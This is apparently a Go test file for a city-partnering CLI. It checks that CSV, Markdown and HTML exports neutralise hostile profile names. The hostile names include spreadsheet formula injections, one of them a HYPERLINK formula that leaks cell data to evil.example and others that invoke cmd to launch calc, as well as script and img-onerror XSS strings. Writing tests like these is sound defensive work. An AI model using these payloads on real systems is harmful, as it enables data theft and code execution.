package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/c2cnet/c2c/cmd/c2c/internal/escape"
	"github.com/c2cnet/c2c/cmd/c2c/internal/publish"
	"github.com/c2cnet/c2c/cmd/c2c/internal/render"
	"github.com/c2cnet/c2c/fixtures"
	"github.com/c2cnet/c2c/model"
)

// hostileNames are city names an attacker could put in a profile: formulas
// for spreadsheets, HTML and Markdown for the reports and letters.
var hostileNames = map[string]string{
	"seoul":     `=HYPERLINK("http://evil.example/?"&A1,"Seoul")`,
	"palembang": `<script>alert(1)</script>Palembang`,
	"penang":    `@SUM(1+1)*cmd|' /C calc'!A0`,
	"mumbai":    `-2+3+cmd|' /C calc'!A0`,
	"yokohama":  "+Yokohama *bold* _it_ `code` [x](javascript:alert(1))",
	"jakarta":   "\tJakarta",
	"hanoi":     "\rHanoi",
}

// hostilePractice is the title given to Seoul's first practice.
const hostilePractice = `<img src=x onerror=alert(1)> | BRT`

// hostileDB returns a sample database whose profiles carry hostileNames
// and hostilePractice.
func hostileDB(t *testing.T) string {
	t.Helper()
	db := sampleDB(t)
	doc := fixtures.Sample()
	var cities []model.City
	for _, c := range doc.Cities {
		if n, ok := hostileNames[c.ID]; ok {
			c.Name = n
			if c.ID == "seoul" {
				c.Practices[0].Title = hostilePractice
			}
			cities = append(cities, c)
		}
	}
	raw, err := json.Marshal(model.Document{Format: model.FormatVersion, Cities: cities})
	require.NoError(t, err)
	file := filepath.Join(t.TempDir(), "hostile.json")
	require.NoError(t, os.WriteFile(file, raw, 0o644))
	mustRun(t, "--db", db, "import", file)
	return db
}

// assertNeutralised checks every cell of a CSV text: none may begin as a
// formula but a number, and the hostile names are there, quoted.
func assertNeutralised(t *testing.T, what, text string, names ...string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, render.UTF8BOM))).ReadAll()
	require.NoError(t, err, what)
	require.Greater(t, len(rows), 1, what)
	cells := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			cells[cell] = true
			if cell != "" && strings.ContainsRune(escape.FormulaStarts, rune(cell[0])) {
				assert.True(t, escape.IsNumber(cell), "%s: cell %q would run as a formula", what, cell)
			}
		}
	}
	for _, n := range names {
		assert.True(t, cells["'"+n], "%s: %q written as text", what, n)
	}
}

// assertEscaped checks that HTML or Markdown from the profiles reaches doc
// as text only.
func assertEscaped(t *testing.T, what, doc string) {
	t.Helper()
	for _, bad := range []string{"<script", "<img", "onerror=alert(1)>"} {
		assert.NotContains(t, doc, bad, what)
	}
}

func TestHostileText(t *testing.T) {
	db := hostileDB(t)
	t.Run("Batch", func(t *testing.T) {
		out := filepath.Join(t.TempDir(), "out")
		mustRun(t, "--db", db, "batch", "--out", out, "--year", "2026", "--quiet")
		files := readDir(t, out)
		assertNeutralised(t, publish.FileShortlists, string(files[publish.FileShortlists]), hostileNames["seoul"], hostileNames["penang"], hostileNames["mumbai"], hostileNames["jakarta"])
		assertNeutralised(t, publish.FilePairings, string(files[publish.FilePairings]), hostileNames["seoul"])
		md := string(files[publish.FileMarkdown])
		assertEscaped(t, publish.FileMarkdown, md)
		assert.Contains(t, md, "### &lt;script&gt;alert(1)&lt;/script&gt;Palembang (palembang,")
		assert.Contains(t, md, `&lt;img src=x onerror=alert(1)&gt; \| BRT`, "the practice title in the reasons")
		assert.Contains(t, md, "+Yokohama \\*bold\\* \\_it\\_ \\`code\\` \\[x\\](javascript:alert(1))")
		html := string(files[publish.FileHTML])
		_, elements := wellFormed(t, files[publish.FileHTML])
		assert.Zero(t, elements["script"]+elements["img"], "nothing to run in report.html")
		assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;Palembang")
	})
	t.Run("FormatCSV", func(t *testing.T) {
		for _, args := range [][]string{
			{"shortlist", "palembang", "--format", "csv", "--year", "2026"},
			{"shortlist", "colombo", "--format", "csv", "--year", "2026"},
			{"scores", "--year", "2026"},
			{"pair", "--format", "csv", "--year", "2026"},
			{"topics", "--format", "csv"},
		} {
			r := mustRun(t, append([]string{"--db", db}, args...)...)
			assertNeutralised(t, strings.Join(args, " "), r.stdout)
		}
		r := mustRun(t, "--db", db, "cities", "--format", "csv")
		assertNeutralised(t, "cities", r.stdout, hostileNames["seoul"], hostileNames["penang"], hostileNames["mumbai"], hostileNames["yokohama"], hostileNames["jakarta"], hostileNames["hanoi"])
	})
	t.Run("Letter", func(t *testing.T) {
		md := mustRun(t, "--db", db, "letter", "palembang", "--format", "md", "--year", "2026").stdout
		assertEscaped(t, "letter md", md)
		assert.Contains(t, md, "# Partner cities for &lt;script&gt;alert(1)&lt;/script&gt;Palembang\n")
		assert.Contains(t, md, `&lt;img src=x onerror=alert(1)&gt; \| BRT`)
		page := mustRun(t, "--db", db, "letter", "palembang", "--year", "2026").stdout
		assertEscaped(t, "letter html", page)
		_, elements := wellFormed(t, []byte(page))
		assert.Zero(t, elements["script"]+elements["img"])
		assert.Contains(t, page, "&lt;img src=x onerror=alert(1)&gt; | BRT")
	})
}
